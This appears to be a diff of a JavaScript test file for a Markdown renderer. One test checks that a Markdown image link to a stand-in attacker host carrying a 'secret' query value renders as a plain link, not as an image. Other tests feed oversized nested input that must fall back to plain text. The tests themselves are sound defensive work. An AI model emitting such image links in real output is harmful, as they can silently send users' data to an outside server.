@@ -43,7 +43,7 @@ describe('Markdown', () => {
   });
 
   it('Markdown loads nothing from elsewhere', () => {
-    const html = show('![chart](https://evil.example/x.png?said=secret)');
+    const html = show('![chart](https://evil.example/x.png?words=secret)');
     expect(html).not.toContain('<img');
     expect(html).toContain('>chart</a>');
   });
@@ -60,7 +60,7 @@ describe('Markdown', () => {
     ['a long paragraph of open marks', '~~a'.repeat(3_000)],
     ['quotes in quotes', `${'> '.repeat(5_000)}deep`],
     ['lists in lists', `${'- '.repeat(5_000)}deep`],
-  ])('Markdown that nobody could read stays plain text: %s', (_name, text) => {
+  ])('Markdown too large to read stays plain text: %s', (_name, text) => {
     expect(isPlain(text)).toBe(true);
     expect(show(text)).toContain('plain-text');
   });
